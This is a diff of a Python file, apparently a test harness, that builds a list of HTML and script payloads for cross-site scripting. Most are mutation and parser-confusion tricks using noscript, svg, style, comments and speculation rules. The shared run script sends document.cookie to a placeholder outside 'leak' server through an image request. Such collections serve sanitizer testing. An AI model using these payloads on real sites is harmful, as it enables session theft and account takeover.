@@ -7,7 +7,7 @@ from dataclasses import dataclass
 # What a payload does when it runs: it says so on the page it can reach, and outside with what it could read.
 _RUN = "document.documentElement.dataset.ran='{name}';try{{parent.document.documentElement.dataset.ran='{name}'}}catch(e){{}}"
 _TELL = "new Image().src='{leak}/ran-{name}?'+encodeURIComponent(document.cookie);"
-RUN = f"(function(){{{{{_RUN}{_TELL}}}}})()"
+RUN = f"(function(){{{{{_RUN}{_TELL}}}}})();"
 # Fragments by name. `{run}` is the script above for a quoted attribute, {leak} an outside server, {app} the product. An element with
 # the id "go" is clicked. Each is one attempt; together they stand for the ways browsers are known to have.
 _SCRIPTS = {
@@ -27,7 +27,7 @@ _SCRIPTS = {
     "script-comment": "<!--><script>{run}</script>-->",
     "script-select": "<select><option><script>{run}</script></option></select>",
     "script-noscript": '<noscript><p title="</noscript><script>{run}</script>"></noscript>',
-    "script-style-mix": '<svg></p><style><a id="</style><img src=x: onerror=&quot;{run}&quot;>">',
+    "script-style-mix": '<svg></p><style><a id="</style><img src=x: onerror={run}>">',
     "script-plaintext": '<script>{run}</script><plaintext>',
     "speculation": '<script type="speculationrules">{{"prefetch": [{{"urls": ["{leak}/speculation"], "eagerness": "immediate"}}],'
     ' "prerender": [{{"urls": ["{app}/?leak=prerender"], "eagerness": "immediate"}}]}}</script>',
